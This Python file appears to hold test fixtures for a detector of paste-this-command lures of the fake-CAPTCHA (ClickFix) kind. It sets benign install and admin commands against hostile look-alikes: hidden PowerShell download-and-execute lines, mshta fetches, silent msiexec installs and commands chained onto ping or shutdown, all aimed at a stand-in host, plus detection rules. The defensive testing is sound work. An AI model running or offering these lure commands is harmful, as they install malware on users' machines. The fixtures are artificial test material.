        "https://learn.microsoft.com/en-us/windows/powertoys/install",
        "winget install Microsoft.PowerToys --source winget",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/dev-environment/javascript/nodejs-on-windows",
        "nvm install lts && nvm use lts",
    ),
]
NIX2 = [
    (
        "https://support.google.com/chrome/a/answer/9025903",
        "wget https://dl.google.com/linux/direct/google-chrome-stable_current_amd64.deb\nsudo apt install ./google-chrome-stable_current_amd64.deb",
    ),
    (
        "https://askubuntu.com/questions/tagged/discord",
        'wget -O discord.deb "https://discord.com/api/download?platform=linux&format=deb" && sudo dpkg -i discord.deb',
    ),
    (
        "https://github.com/neovim/neovim/blob/master/INSTALL.md",
        "curl -LO https://github.com/neovim/neovim/releases/latest/download/nvim-linux-x86_64.tar.gz\nsudo rm -rf /opt/nvim\nsudo tar -C /opt -xzf nvim-linux-x86_64.tar.gz",
    ),
    (
        "https://help.obsidian.md/Getting+started/Download+and+install+Obsidian",
        "chmod +x ./Obsidian-1.7.7.AppImage && ./Obsidian-1.7.7.AppImage",
    ),
    ("https://code.visualstudio.com/docs/setup/linux", "sudo snap install code --classic"),
    ("https://flathub.org/apps/org.gimp.GIMP", "flatpak install flathub org.gimp.GIMP"),
    (
        "https://launchpad.net/~deadsnakes/+archive/ubuntu/ppa",
        "sudo add-apt-repository ppa:deadsnakes/ppa && sudo apt update && sudo apt install python3.12",
    ),
    (
        "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_completion/",
        "source <(kubectl completion bash)",
    ),
    ("https://starship.rs/guide/", 'eval "$(starship init bash)"'),
    ("https://github.com/ajeetdsouza/zoxide", 'eval "$(zoxide init zsh)"'),
    (
        "https://stackoverflow.com/questions/19331497/set-environment-variables-from-file-of-key-value-pairs",
        "export $(grep -v '^#' .env | xargs)",
    ),
    ("https://stackoverflow.com/questions/tagged/openssl", "openssl rand -base64 32"),
    (
        "https://docs.python.org/3/library/secrets.html",
        'python3 -c "import secrets; print(secrets.token_urlsafe(32))"',
    ),
    (
        "https://stackoverflow.com/questions/tagged/base64",
        "python3 -c 'import base64,sys; print(base64.b64decode(sys.argv[1]).decode())' aGVsbG8gd29ybGQ=",
    ),
    (
        "https://unix.stackexchange.com/questions/tagged/nohup",
        "nohup ./server --port 8080 > server.log 2>&1 &",
    ),
    ("https://unix.stackexchange.com/questions/tagged/curl", "curl ifconfig.me"),
    ("https://github.com/chubin/wttr.in", "curl wttr.in/London"),
    ("https://github.com/chubin/cheat.sh", "curl cheat.sh/tar"),
    ("https://nextjs.org/docs/app/getting-started/installation", "npx create-next-app@latest"),
    ("https://vite.dev/guide/", "npm create vite@latest my-app -- --template react-ts"),
    ("https://pip.pypa.io/en/stable/user_guide/", "python3 -m pip install -r requirements.txt"),
    (
        "https://unix.stackexchange.com/questions/tagged/find",
        "find / -xdev -type f -size +100M -exec ls -lh {} \\; 2>/dev/null",
    ),
    (
        "https://unix.stackexchange.com/questions/tagged/rsync",
        "rsync -avz --progress ./dist/ deploy@198.51.100.5:/srv/app/",
    ),
    (
        "https://unix.stackexchange.com/questions/tagged/scp",
        "scp ./backup.tar.gz admin@198.51.100.5:/tmp/",
    ),
    (
        "https://www.kernel.org/doc/Documentation/sysctl/vm.txt",
        "sync; echo 3 | sudo tee /proc/sys/vm/drop_caches",
    ),
    (
        "https://unix.stackexchange.com/questions/tagged/bash",
        'echo "alias k=kubectl" >> ~/.bashrc && source ~/.bashrc',
    ),
    (
        "https://docs.docker.com/engine/install/linux-postinstall/",
        "sudo systemctl enable docker.service && sudo systemctl enable containerd.service",
    ),
    (
        "https://docs.docker.com/desktop/troubleshoot/",
        "docker run -it --rm --privileged --pid=host justincormack/nsenter1",
    ),
    (
        "https://github.com/harrowfield/dev-scripts",
        "git clone https://github.com/harrowfield/dev-scripts.git && cd dev-scripts && ./install.sh",
    ),
    (
        "https://github.com/junegunn/fzf#using-git",
        "git clone --depth 1 https://github.com/junegunn/fzf.git ~/.fzf\n~/.fzf/install",
    ),
    (
        "https://github.com/ohmyzsh/ohmyzsh/wiki/Plugins",
        "git clone https://github.com/zsh-users/zsh-autosuggestions ${ZSH_CUSTOM:-~/.oh-my-zsh/custom}/plugins/zsh-autosuggestions",
    ),
    (
        "https://github.com/tmux-plugins/tpm",
        "git clone https://github.com/tmux-plugins/tpm ~/.tmux/plugins/tpm",
    ),
    (
        "https://docs.gitlab.com/runner/install/linux-manually.html",
        'sudo curl -L --output /usr/local/bin/gitlab-runner "https://s3.dualstack.us-east-1.amazonaws.com/gitlab-runner-downloads/latest/binaries/gitlab-runner-linux-amd64"\nsudo chmod +x /usr/local/bin/gitlab-runner',
    ),
    ("https://docs.k3s.io/quick-start", "sudo cat /var/lib/rancher/k3s/server/node-token"),
    (
        "https://docs.k3s.io/quick-start",
        "curl -sfL https://get.k3s.io | K3S_URL=https://192.0.2.10:6443 K3S_TOKEN=mynodetoken sh -",
    ),
    (
        "https://docs.datadoghq.com/agent/basic_agent_usage/ubuntu/",
        'DD_API_KEY=<YOUR_API_KEY> DD_SITE="datadoghq.com" bash -c "$(curl -L https://install.datadoghq.com/scripts/install_script_agent7.sh)"',
    ),
    (
        "https://docs.netdata.cloud/",
        "wget -O /tmp/netdata-kickstart.sh https://get.netdata.cloud/kickstart.sh && sh /tmp/netdata-kickstart.sh",
    ),
    ("https://docs.sentry.io/cli/installation/", "curl -sL https://sentry.io/get-cli/ | sh"),
    (
        "https://min.io/docs/minio/linux/index.html",
        "wget https://dl.min.io/server/minio/release/linux-amd64/minio\nchmod +x minio\n./minio server /data",
    ),
]
MAC2 = [
    ("https://support.apple.com/guide/mac-help/", "sudo spctl --master-disable"),
    (
        "https://github.com/quillmere/menubar-app/issues/12",
        "codesign --force --deep --sign - /Applications/Menubar.app",
    ),
    (
        "https://stackoverflow.com/questions/tagged/macos",
        "defaults write -g ApplePressAndHoldEnabled -bool false",
    ),
    ("https://stackoverflow.com/questions/tagged/macos", "chflags nohidden ~/Library"),
    ("https://stackoverflow.com/questions/tagged/macos", "open ~/Library/Application\\ Support"),
    ("https://formulae.brew.sh/formula/postgresql@16", "brew services start postgresql@16"),
    (
        "https://code.visualstudio.com/docs/setup/mac",
        'sudo ln -s "/Applications/Visual Studio Code.app/Contents/Resources/app/bin/code" /usr/local/bin/code',
    ),
    (
        "https://stackoverflow.com/questions/tagged/xcode",
        "sudo rm -rf /Library/Developer/CommandLineTools && xcode-select --install",
    ),
    (
        "https://docs.docker.com/desktop/setup/install/mac-install/",
        "sudo hdiutil attach Docker.dmg\nsudo /Volumes/Docker/Docker.app/Contents/MacOS/install\nsudo hdiutil detach /Volumes/Docker",
    ),
    (
        "https://stackoverflow.com/questions/tagged/applescript",
        "osascript -e 'tell application \"System Events\" to get name of every process whose background only is false'",
    ),
    (
        "https://stackoverflow.com/questions/tagged/macos",
        "security find-identity -v -p codesigning",
    ),
    ("https://stackoverflow.com/questions/tagged/macos", "sudo pmset -a displaysleep 15 sleep 30"),
    (
        "https://tailscale.com/kb/1065/macos-variants",
        "/Applications/Tailscale.app/Contents/MacOS/Tailscale status",
    ),
]
CONSOLE2 = [
    (
        "https://stackoverflow.com/questions/7474354/include-jquery-in-the-javascript-console",
        "var script = document.createElement('script'); script.src = 'https://code.jquery.com/jquery-3.7.1.min.js'; document.getElementsByTagName('head')[0].appendChild(script);",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "const s = document.createElement('script'); s.src = 'https://cdn.jsdelivr.net/npm/lodash@4.17.21/lodash.min.js'; document.head.appendChild(s);",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "$$('a[href*=\"download\"]').map(a => a.href)",
    ),
    (
        "https://docs.github.com/en/graphql",
        "fetch('/graphql', {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify({query: '{ viewer { login } }'})}).then(r => r.json()).then(console.log)",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "document.querySelector('input[type=password]').type = 'text'",
    ),
    ("https://stackoverflow.com/questions/tagged/javascript", "Object.entries(sessionStorage)"),
    ("https://stackoverflow.com/questions/tagged/javascript", "console.log(document.cookie)"),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "Array.from(document.querySelectorAll('input')).map(i => [i.name, i.value])",
    ),
    (
        "https://gist.github.com/harrowfield/unfollow",
        "document.querySelectorAll('[data-testid$=\"-unfollow\"]').forEach((b, i) => setTimeout(() => b.click(), i * 1500))",
    ),
    (
        "https://www.reddit.com/r/youtube/comments/1abcde/",
        "document.querySelectorAll('ytd-playlist-video-renderer #button').forEach(b => b.click())",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "window.open('https://developer.mozilla.org/', '_blank')",
    ),
    ("https://stackoverflow.com/questions/tagged/javascript", "location.href = '/admin/settings'"),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "Object.keys(window).filter(k => !k.startsWith('on')).length",
    ),
    ("https://developer.chrome.com/docs/devtools/console/utilities", "keys(localStorage)"),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "JSON.parse(localStorage.getItem('persist:root'))",
    ),
    ("https://developer.mozilla.org/en-US/docs/Web/API/Web_Crypto_API", "crypto.randomUUID()"),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "[...document.querySelectorAll('h2, h3')].map(h => `${h.tagName} ${h.textContent.trim()}`).join('\\n')",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "fetch(location.href).then(r => [...r.headers].forEach(h => console.log(h)))",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "document.querySelectorAll('img[loading=lazy]').forEach(i => i.loading = 'eager')",
    ),
    (
        "https://stackoverflow.com/questions/tagged/javascript",
        "new Blob([JSON.stringify(window.dataLayer)]).size",
    ),
]
RUN2 = [
    "ms-settings:defaultapps",
    "ms-screenclip:",
    "mailto:helpdesk@harrowfield.example",
    "slui 3",
    "SystemPropertiesAdvanced",
    "SystemPropertiesProtection",
    "rstrui",
    "charmap",
    "odbcad32",
    "colorcpl",
    "fsquirt",
    "mrt",
    "recdisc",
    "cttune",
    "%windir%\\system32\\control.exe /name Microsoft.Troubleshooting",
    "quickassist",
    "ms-quick-assist:",
    "winver",
    "control /name Microsoft.WindowsUpdate",
    "control bthprops.cpl",
    "shell:Personal",
    "shell:AppData",
    "%LOCALAPPDATA%\\Microsoft\\Outlook",
    "\\\\wsl$\\Ubuntu\\home",
    "\\\\wsl.localhost\\Ubuntu-24.04",
    "ms-settings:signinoptions",
    "gpedit.msc",
    "secpol.msc",
    "wscui.cpl",
    "C:\\Windows\\System32\\drivers\\etc",
]
BAR2 = [
    "%AppData%\\..\\Local\\Temp",
    "C:\\Users\\%username%\\AppData\\Local\\Microsoft\\Outlook",
    "\\\\wsl$\\Ubuntu\\home\\dana",
    "shell:::{26EE0668-A00A-44D7-9371-BEB064C98683}",
    "%ProgramFiles%\\Microsoft Office\\root\\Office16",
    "\\\\fileserver01.corp.harrowfield.example\\Projects\\2026",
    "C:\\Windows\\System32\\drivers\\etc",
    "%userprofile%\\.ssh",
    "shell:RecycleBinFolder",
    "https://harrowfield.sharepoint.com/sites/IT/Shared Documents",
]
WRITE2 = [
    (
        "https://www.example.com/blog/2026/how-fake-captcha-works",
        'The page\'s script calls navigator.clipboard.writeText() with a command like `powershell -w hidden -c "iwr hxxps://check[.]example/a | iex"` and then shows the instructions: press Win+R, then Ctrl+V, then Enter.',
    ),
    (
        "https://www.example.com/blog/2026/how-fake-captcha-works",
        'Defenders can hunt for it with this query: `DeviceRegistryEvents | where RegistryKey has "RunMRU" and RegistryValueData has_any ("mshta", "powershell", "curl")`.',
    ),
    (
        "https://learn.microsoft.com/en-us/defender-endpoint/attack-surface-reduction-rules-reference",
        "Block execution of potentially obfuscated scripts: this rule detects suspicious properties within an obfuscated script. PowerShell scripts have been temporarily excluded from this rule due to the large-scale FP issues faced in the past.",
    ),
    (
        "https://attack.mitre.org/techniques/T1059/001/",
        "PowerShell may also be used to download and run executables from the Internet, which can be executed from disk or in memory without touching disk.",
    ),
    (
        "https://lolbas-project.github.io/lolbas/Binaries/Certutil/",
        "Certutil.exe is a command-line program installed as part of Certificate Services. It can be used to download a file from a URL, to encode and decode files in base64, and to manage the certificate store.",
    ),
    (
        "https://www.example.com/blog/2026/stealer-analysis",
        'After decoding, the script stored its configuration in %APPDATA%\\Microsoft\\Windows\\Templates\\cfg.dat and added a Run key named "OneDriveUpdate" for persistence.',
    ),
    (
        "https://www.example.com/blog/2026/stealer-analysis",
        "Table 2. Observed commands\n| Stage | Command |\n| 1 | mshta (remote HTA, defanged in appendix) |\n| 2 | powershell -enc (UTF-16LE, decoded below) |\n| 3 | rundll32 with an exported function |",
    ),
    (
        "https://www.reddit.com/r/sysadmin/comments/1xyz12/",
        "Heads up: one of our users got the 'Press Windows + R' fake Cloudflare page today. Thankfully PowerShell is blocked for standard users via AppLocker so nothing ran. Check your proxy logs for weird .hta downloads.",
    ),
    (
        "https://security.stackexchange.com/questions/tagged/malware",
        "What you saw is a ClickFix lure. The clipboard contained a command that would download and run a script. If you did not press Enter, nothing happened. If you did, disconnect from the network and run a full scan.",
    ),
    (
        "https://www.example.com/blog/2026/detections",
        "rule: process_creation where parent is explorer.exe and image ends with mshta.exe and command line contains http -> high severity",
    ),
]
MAIL2 = [
    (
        "outlook",
        "Hi team,\nThe new VPN client is rolling out via Intune this week. You don't need to do anything: it installs itself overnight. If you see an error the next morning, call the service desk at 555-010-3300 (option 2).",
    ),
    (
        "outlook",
        "Your Harrowfield Bank card ending 4242 was used for $58.20 at Example Grocery on Dec 6. If you don't recognize this charge, call the number on the back of your card.",
    ),
    (
        "outlook",
        "Thanks for contacting Quillmere support. Your case number is 00418822. A technician will call you back at the number on file (555-010-7719) within one business day. Please don't reply to this message.",
    ),
    (
        "teams",
        "Can you call me on my mobile? 555-0177. The projector in room 3 isn't picking up HDMI again.",
    ),
    (
        "outlook",
        "Receipt #2026-118342\nQuillmere Pro (annual) $119.00\nTax $9.52\nTotal $128.52\nThe charge will appear as QUILLMERE*PRO. Questions about billing: 1 (555) 010-4400.",
    ),
    (
        "https://mail.google.com/mail/u/0/#inbox",
        "Your appointment with Dr. Okafor is confirmed for Thursday at 2:15 PM. Please arrive 10 minutes early. To cancel, call 555-010-6262.",
    ),
    (
        "outlook",
        "Password expiry notice: your Harrowfield account password expires in 5 days. Change it at any time by pressing Ctrl+Alt+Del and choosing 'Change a password'. IT will never ask for your password. Service desk: 555-010-3300.",
    ),
    (
        "slack",
        "The wifi in building B is down, facilities is on it. If you need to print, use the 3rd floor printer. Ping me at 555-0134 if anything's urgent.",
    ),
]


# -- cleared techniques and the look-alikes that try to abuse them --------------------------------

CHECK_PAGE = "https://verify-human.umbra-stage.test/captcha/step2"
LURE_HOST = "https://cdn.umbra-stage.test"

# `download-saved-to-temp`: a vendor's or a Q&A page's download saved to %TEMP% (-OutFile
# $env:TEMP\x.msi) starts nothing: the saving alone is no start from a temporary folder. Any way
# of starting what was saved there still is (and counts in full).
SAVED_TO_TEMP = [
    (
        "https://superuser.com/questions/25538/how-to-download-files-from-command-line-in-windows-like-wget-or-curl",
        "Invoke-WebRequest -Uri https://www.python.org/ftp/python/3.13.0/python-3.13.0-amd64.exe -OutFile $env:TEMP\\python-3.13.0-amd64.exe",
    ),
    (
        "https://learn.microsoft.com/en-us/microsoftteams/msi-deployment",
        'Invoke-WebRequest -Uri "https://statics.teams.cdn.office.net/production-windows-x64/enterprise/webview2/lkg/MSTeams-x64.msix" -OutFile "$env:TEMP\\MSTeams-x64.msix"',
    ),
    (
        "https://stackoverflow.com/questions/tagged/powershell",
        "iwr https://github.com/git-for-windows/git/releases/download/v2.47.0.windows.2/Git-2.47.0.2-64-bit.exe -OutFile $env:TEMP\\Git-2.47.0.2-64-bit.exe",
    ),
    (
        "https://stackoverflow.com/questions/tagged/powershell",
        "Invoke-WebRequest https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile $env:TEMP\\vc_redist.x64.exe -UseBasicParsing",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/package-manager/winget/",
        'Invoke-WebRequest -Uri https://aka.ms/getwinget -OutFile "$env:TEMP\\Microsoft.DesktopAppInstaller_8wekyb3d8bbwe.msixbundle"',
    ),
    (
        "https://docs.docker.com/desktop/setup/install/windows-install/",
        'Invoke-WebRequest "https://desktop.docker.com/win/main/amd64/Docker%20Desktop%20Installer.exe" -OutFile "C:\\Users\\Public\\Downloads\\DockerDesktopInstaller.exe"',
    ),
    (
        "https://github.com/harrowfield/win-dev-setup",
        "$ProgressPreference = 'SilentlyContinue'\nInvoke-WebRequest https://download.sysinternals.com/files/SysinternalsSuite.zip -OutFile $env:TEMP\\SysinternalsSuite.zip",
    ),
    (
        "https://superuser.com/questions/tagged/powershell",
        "Invoke-WebRequest -Uri 'https://nodejs.org/dist/v22.11.0/node-v22.11.0-x64.msi' -OutFile \"$env:TEMP\\node.msi\"",
    ),
    (
        "https://www.reddit.com/r/PowerShell/comments/1abcdef/",
        "Invoke-WebRequest -Uri https://download.mozilla.org/?product=firefox-msi-latest-ssl`&os=win64`&lang=en-US -OutFile $env:TEMP\\firefox.msi",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/install/installing-powershell-on-windows",
        "Invoke-WebRequest -Uri https://github.com/PowerShell/PowerShell/releases/download/v7.4.6/PowerShell-7.4.6-win-x64.msi -OutFile $env:LOCALAPPDATA\\PowerShell-7.4.6-win-x64.msi",
    ),
]
SAVED_AND_STARTED = [
    "iwr {h}/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
    "iwr {h}/a.exe -OutFile $env:TEMP\\a.exe; & $env:TEMP\\a.exe",
    'Invoke-WebRequest -Uri {h}/u.msi -OutFile "$env:TEMP\\u.msi"; msiexec /i $env:TEMP\\u.msi /qn',
    'powershell -w h -c "iwr {h}/a.exe -OutFile $env:TEMP\\a.exe; saps $env:TEMP\\a.exe"',
    "iwr -OutFile C:\\Users\\Public\\a.exe {h}/a.exe; start C:\\Users\\Public\\a.exe",
    "curl.exe -o %TEMP%\\a.exe {h}/a.exe && %TEMP%\\a.exe",
    "iwr {h}/a.hta -OutFile $env:TEMP\\a.hta; mshta $env:TEMP\\a.hta",
    "iwr {h}/a.ps1 -OutFile $env:TEMP\\a.ps1; powershell -ep bypass -f $env:TEMP\\a.ps1",
    "Invoke-WebRequest {h}/a.exe -OutFile $env:APPDATA\\a.exe; Start-Process -WindowStyle Hidden $env:APPDATA\\a.exe",
    'powershell -c "Invoke-WebRequest {h}/MSTeams-x64.msix -OutFile $env:TEMP\\t.msix; Add-AppxPackage $env:TEMP\\t.msix"',
    "iwr {h}/python-3.13.0-amd64.exe -OutFile $env:TEMP\\python-3.13.0-amd64.exe  # I am not a robot - Verification ID: 40213",
    'Invoke-WebRequest "{h}/Docker Desktop Installer.exe" -OutFile "$env:TEMP\\d.exe"; Start-Process "$env:TEMP\\d.exe" -ArgumentList install,--quiet',
]

# `run-box-network-check`: ping, tracert and pathping in the Run box with one computer and the
# switches that only say how often, how long or how far (runbox.yaml `pages`): whoever wrote it,
# a page gains nothing it had not with `ping 192.0.2.1`. shutdown's switches written with a dash
# (`shutdown -s -t 3600`) are its slash switches typed (runbox.yaml `tools`): a page's is still a
# command. Anything more on the line (a second command, a share, a path, a copy of the program
# elsewhere, a switch twice, nslookup's DNS answers) is a command.
NETWORK_CHECKS = [
    "ping -t 192.0.2.1", "ping 192.0.2.1 -t", "ping -n 10 198.51.100.7", "ping -t fileserver01",
    "ping -4 -t gw.corp.harrowfield.example", "ping -a 192.0.2.44", "ping -n 4 -l 1472 192.0.2.1",
    "ping.exe -t 192.0.2.254", "PING -T 192.0.2.1", "tracert 198.51.100.1", "tracert -d 198.51.100.1",
    "tracert -h 15 -d harrowfield.example", "pathping -n fs01.corp.harrowfield.example", "pathping 192.0.2.1",
]  # fmt: skip
SHUTDOWN_DASHES = [
    "shutdown -s -t 3600",
    "shutdown -r -t 0",
    "shutdown -a",
    "shutdown -l",
    "shutdown -h",
]
NETWORK_CHECK_LOOKALIKES = [
    "ping -n 1 192.0.2.1 & mshta {h}/v.hta",
    "ping 127.0.0.1 -n 5 > nul & powershell -w h -c iwr {h}/a|iex",
    "ping -t \\\\203.0.113.7\\s", "ping -t 192.0.2.1 -t", "ping -t {h}/a.exe",
    "tracert -d 192.0.2.1 | powershell -", "shutdown -s -t 0 -m \\\\203.0.113.7", "shutdown -s -t 3600 -f",
    "pathping -n fs01 && curl {h}/a.exe -o %TEMP%\\a.exe && %TEMP%\\a.exe",
    "nslookup -q=txt stage.umbra-stage.test 203.0.113.53", "cmd /c nslookup stage.umbra-stage.test | findstr Name",
    "ping -t 192.0.2.1 C:\\Users\\Public\\a.exe", "pìng -t 192.0.2.1 & calc",
    "%TEMP%\\ping.exe -t 192.0.2.1",
]  # fmt: skip


# `defanged-prose-write-up`: a write-up's paragraph naming a lure's command as words, with every
# address defanged (hxxps://, [.]) and no backticks, copied from the report's page where the
# target is not known yet or nothing runs: a report, not the lure (info at most). A live address,
# a live one beside the defanged, a network path, a command line after the sentences, or a paste
# into a terminal or the Run box keep their weight.
DEFANGED_PROSE = [
    "ClickFix lures trick users into pressing Win+R, pasting a command, and pressing Enter. The pasted command typically launches mshta or PowerShell to fetch the next stage from attacker infrastructure such as hxxps://cdn-verify[.]test/check.",
    "In this campaign the fake CAPTCHA page copied an mshta command pointing at hxxps://captcha-check[.]example/v.hta to the clipboard and told the visitor to open the Run dialog.",
    "The second stage is a PowerShell one-liner that downloads hxxp://198.51.100[.]23/p.ps1 and runs it in memory with Invoke-Expression, so nothing is written to disk.",
    "On macOS the lure asked users to paste a curl command that fetched hxxps://update-mac[.]invalid/install.sh and piped it to bash; the script then prompted for the login password.",
    "We observed the loader reaching out to hxxps://files.umbra-stage[.]test/gate.php every five minutes and downloading an encoded payload that PowerShell decoded and ran.",
    "Victims were told their browser needed an update and were shown a button that copied a command which used certutil to download hxxps://cdn.update-now[.]example/upd.exe before running it.",
    "The FileFix page asked people to paste a path into File Explorer; behind the spaces it ran powershell with a hidden window and fetched hxxps://share-docs[.]test/s.txt.",
    "Attackers also abused the Windows Terminal: the instructions said to press Win+X, choose Terminal and paste, after which the command pulled a script from hxxps://verify[.]umbra-stage[.]test.",
    "Between March and May the domains rotated daily (hxxps://check-human[.]example, hxxps://robot-verify[.]invalid), but the mshta command line copied to the clipboard stayed the same.",
    "Blocking mshta and restricting PowerShell would have stopped this chain, since the command the user pasted only started mshta with the address hxxps://cf-check[.]test/x.hta.",
    "In short: the page fetched its script from hxxps://cdn-static[.]example/c.js, the script wrote a command to the clipboard, and the command downloaded a ZIP from 203.0.113[.]45 that held the stealer.",
    "De aanval begon met een valse CAPTCHA op hxxps://bevestig-mens[.]example die een PowerShell-opdracht naar het klembord kopieerde en vroeg om Win+R te gebruiken.",
]
DEFANGED_PROSE_LOOKALIKES = [
    "ClickFix lures trick users into pressing Win+R and pasting a command. The pasted command typically launches mshta to fetch the next stage from https://cdn-verify.umbra-stage.test/check.",
    "The second stage is a PowerShell one-liner that downloads hxxp://198.51.100[.]23/p.ps1 and runs it in memory, as mshta does with https://cdn.umbra-stage.test/p2.hta in the newer builds.",
    "In this campaign the fake page copied an mshta command pointing at hxxps://captcha-check[.]example/v.hta and then \\\\203.0.113.7\\share\\v.hta to the clipboard.",
    "The pasted command launched mshta to fetch the next stage from hxxps://cdn-verify[.]test/check.\nmshta https://cdn-verify.umbra-stage.test/check",
    'Verification step: open the Run box and paste the command. It fetches hxxps://cdn-verify[.]test/check.\npowershell -w h -c "iwr https://cdn.umbra-stage.test/a.ps1|iex"',
    "Please press Win+R, paste this and press Enter to verify you are human: mshta https://verify-human.umbra-stage.test/v.hta",
]

# `run-box-system-path`: one of Windows' own settings pages opened by its program's path in the
# system folder (`%windir%\system32\control.exe /name Microsoft.Troubleshooting`), as shortcuts and
# help pages write it: the program of that name (only administrators write there), so the page it
# opens is read as with the bare name, whoever wrote it. Look-alikes: the same name in another
# folder (Temp, Public, a share, Windows\Temp, a subfolder), a climb out of the system folder, a
# program that runs what it is given, an applet or a library by path, a second command.
SYSTEM_PATHS = [
    "%windir%\\system32\\control.exe /name Microsoft.Troubleshooting",
    "%windir%\\System32\\control.exe /name Microsoft.DeviceManager",
    "C:\\Windows\\System32\\control.exe printers",
    "C:\\WINDOWS\\system32\\control.exe /name Microsoft.NetworkAndSharingCenter",
    "%SystemRoot%\\System32\\rundll32.exe sysdm.cpl,EditEnvironmentVariables",
    "%SystemRoot%\\system32\\rundll32.exe keymgr.dll,KRShowKeyMgr",
    "c:\\windows\\system32\\mmc.exe devmgmt.msc",
    "%windir%\\system32\\control.exe sysdm.cpl,,3",
    "%windir%\\SysWOW64\\control.exe mmsys.cpl,,1",
    "C:\\Windows\\System32\\perfmon.exe /rel",
    "%windir%\\system32\\rundll32.exe shell32.dll,Control_RunDLL desk.cpl",
    "%windir%\\system32\\control.exe /name Microsoft.WindowsUpdate",
]
# a copy saved outside the program folders, given words: a file of one's own when typed
# (runbox.Shape.RUN_FILE), a command from a page
LOCAL_COPIES = ["C:\\Users\\Public\\control.exe printers", "C:\\Users\\Public\\tracert.exe 198.51.100.1",
                "%LOCALAPPDATA%\\Temp\\rundll32.exe sysdm.cpl,EditEnvironmentVariables"]  # fmt: skip
SYSTEM_PATH_LOOKALIKES = [
    "%TEMP%\\control.exe /name Microsoft.Troubleshooting",
    "C:\\Windows\\Temp\\control.exe /name Microsoft.Troubleshooting",
    "%windir%\\system32\\..\\..\\Users\\Public\\control.exe /name Microsoft.Troubleshooting",
    "\\\\203.0.113.7\\s\\system32\\control.exe /name Microsoft.Troubleshooting",
    "%windir%\\system32\\mshta.exe {h}/v.hta",
    "%windir%\\system32\\rundll32.exe url.dll,FileProtocolHandler {h}/a.exe",
    "%windir%\\system32\\control.exe C:\\Users\\Public\\x.cpl",
    "%windir%\\system32\\rundll32.exe C:\\Users\\Public\\x.dll,Start",
    "%windir%\\system32\\control.exe printers & mshta {h}/v.hta",
    "%windir%\\system32\\cmd.exe /c curl {h}/a.exe -o %TEMP%\\a.exe && %TEMP%\\a.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w h -c iwr {h}/a|iex",
]


# Written, scanned, and still warned about or blocked in their own context: left out of the file
# (ids as the generator numbers them), each with why. They are what a fresh hold-out will still
# show of these kinds; the lead's "Honest limits" names them.
LEFT = {
    # a stranger's pages site (*.github.io) piping a script into a shell: a never-trusted host
    # (anyone's pages; lures are served from them) — blocked
    "fp15-ok-other-readme-installer-60": "github.io pipe to shell",
    # another page's `curl … | sh` of a tool whose host is neither the page's nor on the trust
    # list: a warning by design (issue 9: a plain pipe into a shell from a page with no lure trait)
    "fp15-ok-other-page-installer-05": "unknown host pipe to shell",
    "fp15-ok-other-page-installer-10": "unknown host pipe to shell",
    "fp15-ok-other-page-installer-20": "unknown host pipe to shell",
    "fp15-ok-other-page-installer-26": "unknown host pipe to shell",
    "fp15-ok-other-page-installer-27": "unknown host pipe to shell",
    "fp15-ok-other-page-installer-29": "unknown host pipe to shell",
    "fp15-ok-other-page-installer-36": "unknown host pipe to shell",
    "fp15-ok-other-page-installer-37": "unknown host pipe to shell",
    "fp15-ok-other-page-installer-40": "unknown host pipe to shell",
    # a Q&A page's download of an installer then msiexec on it: download and run from a page
    # that is not the vendor's (a warning; Start-Process on the %TEMP% copy blocks)
    "fp15-ok-vendor-admin-hard-20": "download then msiexec from temp",
    "fp15-ok-vendor-admin-hard-21": "download then msiexec",
    "fp15-ok-vendor-admin-hard-22": "download then msiexec",
    # LOLBin downloads (certutil -urlcache, bitsadmin /transfer) even from Microsoft's own docs
    "fp15-ok-vendor-admin-hard-23": "certutil download",
    "fp15-ok-vendor-admin-hard-24": "bitsadmin download",
    # a disk image downloaded and mounted (hdiutil attach): AMOS's chain, read as a start
    "fp15-ok-vendor-admin-hard-40": "download then hdiutil attach",
    # the DNS server set to an address: traffic redirection, whoever documents it
    "fp15-ok-vendor-admin-windows-30": "netsh dns static",
    # every local storage value put on the clipboard: the token-theft console lure's own shape
    "fp15-ok-console-snippet-07": "copy(localStorage) in the console",
    # the Run box, written by a mail or a wiki page: a command there from a page is a block and
    # from a mail a warning (issue 9), however ordinary the command
    "fp15-ok-run-box-everyday-39": "run box from a mail",
    "fp15-ok-run-box-everyday-42": "run box from a page",
    "fp15-ok-run-box-everyday-43": "run box from a mail",
    "fp15-ok-run-box-everyday-51": "run box from a mail",
    "fp15-ok-run-box-everyday-67": "run box from a mail",
    "fp15-ok-run-box-everyday-77": "run box from a page",
    "fp15-ok-run-box-everyday-93": "run box from a page",
    "fp15-ok-run-box-everyday-94": "run box from a mail",
    "fp15-ok-run-box-everyday-101": "run box from a page",
    # typed, but a script host or Explorer given something (cmd /c, explorer <folder>) or
    # nslookup (its answers are a lure's payload): commands in the Run box
    "fp15-ok-run-box-everyday-91": "typed cmd /c",
    "fp15-ok-run-box-everyday-92": "typed cmd /k ping",
    "fp15-ok-run-box-everyday-95": "typed explorer folder",
    "fp15-ok-run-box-everyday-99": "typed nslookup",
    # a release download from github.com with no page: a shared host whose owner nobody vouches for
    "fp15-ok-download-saved-to-temp-20": "github release download, no page",
    # a loopback sign-in redirect with a code copied from the identity provider's own docs while
    # the target is not known yet: ConsentFix's shape, and the lure sets model its copy so (the
    # docs' example is info once pasted where nothing runs)
    "fp15-ok-oauth-docs-03": "sign-in code from docs, target unknown",
    # a package downloaded and installed with no page to vouch for it
    "fp15-ok-vendor-admin-linux-98": "dpkg -i of a download, no page",
